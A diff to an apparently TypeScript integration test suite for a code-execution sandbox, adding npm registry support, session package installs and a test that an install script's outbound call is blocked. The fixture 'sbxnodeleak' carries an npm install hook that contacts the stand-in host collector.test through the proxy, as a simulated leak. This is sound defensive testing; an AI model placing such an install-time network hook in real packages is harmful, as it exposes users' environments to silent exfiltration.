@@ -4,7 +4,7 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildPythonDistribution, TestPackageIndex } from '../support/package-index.js';
+import { buildNpmTarball, buildPythonDistribution, TestPackageIndex } from '../support/package-index.js';
 import { postJson, python, startTestApp, type TestApp } from '../support/test-app.js';
 
 // Everything stays on loopback: the test builds its own wheels and sdists, serves them from a PEP 503
@@ -43,6 +43,17 @@ beforeAll(async () => {
     }),
   );
   index.addPython('sbxsecret', buildPythonDistribution(distDir, 'sbxsecret', { 'sbxsecret/__init__.py': '' }));
+  index.addPython('sbxlater', buildPythonDistribution(distDir, 'sbxlater', { 'sbxlater/__init__.py': 'VALUE = 7\n' }));
+  index.addNpm('sbxnode', '1.0.0', buildNpmTarball(distDir, 'sbxnode', 'module.exports = { value: 43 };\n'));
+  index.addNpm(
+    'sbxnodeleak',
+    '1.0.0',
+    buildNpmTarball(distDir, 'sbxnodeleak', 'module.exports = {};\n', {
+      // npm runs it at install time, in the install sandbox: Node's http ignores HTTP_PROXY, so the
+      // script names the proxy it was given itself, as a determined script would.
+      install: `node -e "const p=new URL(process.env.HTTP_PROXY);require('http').get({host:p.hostname,port:p.port,path:'http://collector.test:${collectorPort}/npm-leak'},r=>{console.log('NPM-LEAK-STATUS',r.statusCode);process.exit(r.statusCode===200?0:1)}).on('error',e=>{console.log('NPM-LEAK-ERROR',e.message);process.exit(1)})"`,
+    }),
+  );
   // sdists: their setup.py runs at install time, inside the install sandbox.
   index.addPython(
     'sbxleak',
@@ -71,7 +82,9 @@ beforeAll(async () => {
   t = await startTestApp(
     {
       SANDBOX_PYPI_INDEX_URL: `http://127.0.0.1:${port}/simple/`,
-      SANDBOX_PACKAGES_ALLOW: 'python:sbxdemo,python:sbxbig,python:sbxneedy,python:sbxleak,python:sbxslow',
+      SANDBOX_NPM_REGISTRY_URL: `http://127.0.0.1:${port}/`,
+      SANDBOX_PACKAGES_ALLOW:
+        'python:sbxdemo,python:sbxbig,python:sbxneedy,python:sbxleak,python:sbxslow,python:sbxlater,nodejs:sbxnode,nodejs:sbxnodeleak',
       SANDBOX_PACKAGES_MAX_BYTES: String(4 * MiB),
       // The program may be allowed the index by its exact name (loopback needs one), never by default.
       SANDBOX_EGRESS_ALLOW: `pypi.test:${port}`,
@@ -207,3 +220,60 @@ describe('packages at run time (Python, through the host-side mirror and cache)'
   }, 120_000);
 });
 
+
+describe('packages in sessions', () => {
+  it('installs at CreateSession, imports in later cells, and installs more with %pip install in a cell', async () => {
+    const created = await postJson(`${t.httpUrl}/v1/sessions`, { language: 'python', packages: { python: ['sbxdemo'] } });
+    expect(created.status).toBe(200);
+    const sessionId = created.json.session_id as string;
+    const cell = async (code: string) =>
+      (await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, { code })).json;
+    try {
+      expect((await cell('import sbxdemo\nprint(sbxdemo.VALUE)')).stdout).toBe('42\n');
+      const installing = await cell('%pip install sbxlater\nimport sbxlater\nprint(sbxlater.VALUE)');
+      expect(installing.exit_reason).toBe('ok');
+      expect(installing.stdout).toBe('7\n');
+      expect((installing.install as InstallJson).outcome).toBe('ok');
+      const later = await cell('print(sbxdemo.VALUE + sbxlater.VALUE)');
+      expect(later.stdout).toBe('49\n');
+      expect(later.install).toBeUndefined();
+      const refused = await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, { code: '%pip install requests-oauthlib' });
+      expect(refused.status).toBe(400);
+      const failing = await cell('%pip install sbxneedy\nprint("not reached")');
+      expect(failing.exit_reason).toBe('install_error');
+      expect(failing.stdout).toBe('');
+    } finally {
+      await fetch(`${t.httpUrl}/v1/sessions/${sessionId}`, { method: 'DELETE' });
+    }
+  }, 240_000);
+});
+
+describe('packages at run time (Node.js, npm against a registry stand-in)', () => {
+  it('installs a tarball from the registry and the program requires it; the second install is cached', async () => {
+    const first = await execute({
+      language: 'nodejs',
+      code: 'console.log(require("sbxnode").value)',
+      packages: { nodejs: ['sbxnode@1.0.0'] },
+    });
+    expect(first.install?.output).toBeDefined();
+    expect(first.json.exit_reason).toBe('ok');
+    expect(first.json.stdout).toBe('43\n');
+    expect(first.install).toMatchObject({ outcome: 'ok', cache_misses: 1 });
+    const downloads = index.count('/tarballs/sbxnode-1.0.0.tgz');
+    const second = await execute({
+      language: 'nodejs',
+      code: 'console.log(require("sbxnode").value + 1)',
+      packages: { nodejs: ['sbxnode'] },
+    });
+    expect(second.json.stdout).toBe('44\n');
+    expect(second.install).toMatchObject({ outcome: 'ok', cache_hits: 1, cache_misses: 0 });
+    expect(index.count('/tarballs/sbxnode-1.0.0.tgz')).toBe(downloads);
+  }, 180_000);
+
+  it('stops an install script that reaches another host at the mirror', async () => {
+    const run = await execute({ language: 'nodejs', code: 'require("sbxnodeleak")', packages: { nodejs: ['sbxnodeleak'] } });
+    expect(run.json.exit_reason).toBe('install_error');
+    expect(run.install?.output).toContain('NPM-LEAK-STATUS 403');
+    expect(collected).toEqual([]);
+  }, 180_000);
+});
